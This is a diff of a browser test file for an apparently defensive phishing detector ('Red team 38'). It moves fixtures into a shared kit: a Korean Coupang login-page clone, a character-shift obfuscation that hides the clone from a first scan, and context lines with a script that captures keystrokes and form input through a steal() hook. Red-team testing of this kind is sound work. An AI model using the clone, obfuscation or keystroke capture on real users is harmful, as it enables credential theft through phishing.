@@ -1,7 +1,16 @@
 import { beforeAll, expect, test } from 'vitest';
 import { forEachBrowser, type Session, type Tab } from '../harness';
 import { expectNoWarningFor, startReady } from '../page-helpers';
-import { attackSettled, isWarningUrl, js, stolen, userTypes } from './kit';
+import {
+  AWAY,
+  CLONE,
+  CLONE_TITLE as TITLE,
+  attackSettled,
+  hiddenClone,
+  isWarningUrl,
+  stolen,
+  userTypes,
+} from './kit';
 
 /**
  * Red team 38 (docs/threat-model.md, "Red team 38"). The page's own script attacks; the victim reads for a moment,
@@ -17,12 +26,6 @@ window.steal = function (kind, data) {
 window.addEventListener('keydown', function (e) { if (e.isTrusted) steal('key', e.key); }, true);
 document.addEventListener('input', function (e) { steal('input', e.target && e.target.value); }, true);
 </script>`;
-
-/** a Coupang login clone (what the victim is shown) */
-const CLONE = `<header><h1>쿠팡</h1></header><form onsubmit="return false"><h2>쿠팡 회원 로그인</h2>
-<p>회원정보 유출 확인을 위해 로그인해 주세요.</p><input name="email" placeholder="아이디(이메일)" style="width:320px;height:40px">
-<input id="pw" type="password" name="pw" placeholder="비밀번호" style="width:320px;height:40px"><button>로그인</button></form>
-<footer>© Coupang Corp. All rights reserved.</footer>`;
 
 const page = (head: string, body: string, script = '') =>
   `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>동네 빵집</title>${EARS}${head}</head><body>
@@ -61,12 +64,6 @@ const H1 = page(
 <input id="pw" type="password" name="pw" placeholder="비밀번호" style="width:320px;height:40px"><button>로그인</button></form>`,
 );
 
-/** the clone as a script writes it, kept out of the script's words (the first scan reads what a script will show) */
-const hiddenClone = `(function (t) { var u = ''; for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1); return u; })(${js(
-  Array.from(CLONE, (c) => String.fromCharCode(c.charCodeAt(0) + 1)).join(''),
-)})`;
-const TITLE = `String.fromCharCode(${Array.from('쿠팡 회원 로그인', (c) => c.charCodeAt(0)).join(',')})`;
-
 /** b1: an honest page, left and come back to (back/forward cache): it turns into the clone on `pageshow` */
 const B1 = page(
   '',
@@ -89,7 +86,6 @@ const B2 = page(
 });
 window.addEventListener('pageshow', function (e) { if (e.persisted) steal('restored', 'yes'); });`,
 );
-const AWAY = `<!doctype html><meta charset="utf-8"><title>다음 글</title><p>다음 글입니다.</p>`;
 
 /** c1: quiet for 30 s, then the clone at an idle moment */
 const C1 = page(
